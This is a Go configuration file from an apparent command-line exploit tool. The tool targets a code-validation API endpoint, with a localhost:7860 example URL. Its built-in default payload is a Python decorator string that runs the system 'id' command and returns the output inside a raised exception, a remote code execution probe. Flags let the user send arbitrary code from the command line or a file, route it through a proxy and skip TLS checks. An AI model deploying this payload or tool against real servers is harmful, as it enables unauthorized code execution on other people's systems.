package config

import (
	"errors"
	"flag"
	"fmt"
	"io"
	"os"
	"strconv"
	"strings"
	"time"
)

// DefaultPayload is sent when no code is supplied on the command line.
const DefaultPayload = "@exec(\"raise Exception(__import__('subprocess').check_output(['id']).decode())\")\ndef foo():\n  pass"

// DefaultTimeout bounds the single probe request.
const DefaultTimeout = 10 * time.Second

// Config contains runtime configuration provided via flags.
type Config struct {
	URL      string
	Code     string
	CodeFile string
	Proxy    string
	Insecure bool
	Timeout  time.Duration
	JSONPath string
	Verbose  bool
}

// Stdin is read when --code-file is "-".
var Stdin io.Reader = os.Stdin

// ParseFlags parses CLI flags into a Config value.
func ParseFlags() (Config, error) {
	cfg := Config{Timeout: DefaultTimeout}

	flag.Usage = func() {
		out := flag.CommandLine.Output()
		fmt.Fprintf(out, "Usage: %s -u URL [OPTIONS]\n\n", os.Args[0])
		fmt.Fprintln(out, "Options:")

		printOption(out, "url", "u", "string", "Target URL (e.g. http://localhost:7860/api/v1/validate/code).", "")
		printOption(out, "code", "c", "string", "Code payload to send in the JSON 'code' field.", "built-in id probe")
		printOption(out, "code-file", "f", "path", "Read the code payload from a file ('-' for stdin).", "")
		printOption(out, "timeout", "t", "duration", "Maximum time to wait for the server response (e.g. 10s, 1m).", cfg.Timeout.String())
		printOption(out, "proxy", "", "string", "Forward the request through the provided proxy (e.g. http://127.0.0.1:8080).", "")
		printOption(out, "insecure", "", "", "Skip TLS certificate verification.", "")
		printOption(out, "json", "", "path", "Also write the probe result to a JSON file.", "")
		printOption(out, "verbose", "v", "", "Log request diagnostics to stderr.", "")
	}

	flag.StringVar(&cfg.URL, "url", "", "Target URL (e.g. http://localhost:7860/api/v1/validate/code).")
	registerStringAlias("u", "url", &cfg.URL)

	flag.StringVar(&cfg.Code, "code", "", "Code payload to send in the JSON 'code' field.")
	registerStringAlias("c", "code", &cfg.Code)

	flag.StringVar(&cfg.CodeFile, "code-file", "", "Read the code payload from a file ('-' for stdin).")
	registerStringAlias("f", "code-file", &cfg.CodeFile)

	flag.CommandLine.Var(&durationAlias{target: &cfg.Timeout}, "timeout", "Maximum time to wait for the server response (e.g. 10s, 1m).")
	registerDurationAlias("t", "timeout", &cfg.Timeout)

	flag.StringVar(&cfg.Proxy, "proxy", "", "Forward the request through the provided proxy (e.g. http://127.0.0.1:8080).")

	flag.BoolVar(&cfg.Insecure, "insecure", false, "Skip TLS certificate verification.")

	flag.StringVar(&cfg.JSONPath, "json", "", "Also write the probe result to a JSON file.")

	flag.BoolVar(&cfg.Verbose, "verbose", false, "Log request diagnostics to stderr.")
	registerBoolAlias("v", "verbose", &cfg.Verbose)

	if err := flag.CommandLine.Parse(os.Args[1:]); err != nil {
		return cfg, err
	}

	cfg.URL = strings.TrimSpace(cfg.URL)
	if cfg.URL == "" {
		return cfg, errors.New("-u/--url is required")
	}

	if cfg.Code != "" && cfg.CodeFile != "" {
		return cfg, errors.New("--code and --code-file cannot be combined")
	}

	if cfg.Timeout <= 0 {
		return cfg, errors.New("--timeout must be positive")
	}

	return cfg, nil
}

// Payload returns the code to send, falling back to DefaultPayload.
func (c Config) Payload() (string, error) {
	if c.CodeFile != "" {
		var (
			data []byte
			err  error
		)
		if c.CodeFile == "-" {
			data, err = io.ReadAll(Stdin)
		} else {
			data, err = os.ReadFile(c.CodeFile)
		}
		if err != nil {
			return "", fmt.Errorf("read code file: %w", err)
		}
		return string(data), nil
	}

	if c.Code == "" {
		return DefaultPayload, nil
	}
	return c.Code, nil
}

func registerStringAlias(name, canonical string, target *string) {
	flag.CommandLine.Var(&stringAlias{target: target}, name, fmt.Sprintf("Alias for --%s", canonical))
}

func registerBoolAlias(name, canonical string, target *bool) {
	flag.CommandLine.Var(&boolAlias{target: target}, name, fmt.Sprintf("Alias for --%s", canonical))
}

func registerDurationAlias(name, canonical string, target *time.Duration) {
	flag.CommandLine.Var(&durationAlias{target: target}, name, fmt.Sprintf("Alias for --%s", canonical))
}

func printOption(out io.Writer, primary, alias, value, description, defaultValue string) {
	line := fmt.Sprintf("  -%s", primary)
	if alias != "" {
		line += fmt.Sprintf(" (-%s)", alias)
	}
	if value != "" {
		line += " " + value
	}
	if defaultValue != "" {
		line += fmt.Sprintf(" (default %s)", defaultValue)
	}

	fmt.Fprintln(out, line)
	fmt.Fprintf(out, "        %s\n", description)
}

type stringAlias struct {
	target *string
}

func (s *stringAlias) Set(value string) error {
	*s.target = value
	return nil
}

func (s *stringAlias) String() string {
	if s.target == nil {
		return ""
	}
	return *s.target
}

type boolAlias struct {
	target *bool
}

func (b *boolAlias) Set(value string) error {
	if value == "" {
		*b.target = true
		return nil
	}

	parsed, err := strconv.ParseBool(value)
	if err != nil {
		return err
	}
	*b.target = parsed
	return nil
}

func (b *boolAlias) String() string {
	if b.target == nil {
		return "false"
	}
	return strconv.FormatBool(*b.target)
}

func (b *boolAlias) IsBoolFlag() bool {
	return true
}

type durationAlias struct {
	target *time.Duration
}

// Set accepts Go durations and bare integers, which are read as seconds.
func (d *durationAlias) Set(value string) error {
	if value == "" {
		return errors.New("duration flag requires a value")
	}

	parsed, err := time.ParseDuration(value)
	if err != nil {
		seconds, convErr := strconv.Atoi(value)
		if convErr != nil {
			return err
		}
		*d.target = time.Duration(seconds) * time.Second
		return nil
	}

	*d.target = parsed
	return nil
}

func (d *durationAlias) String() string {
	if d.target == nil {
		return ""
	}
	return d.target.String()
}
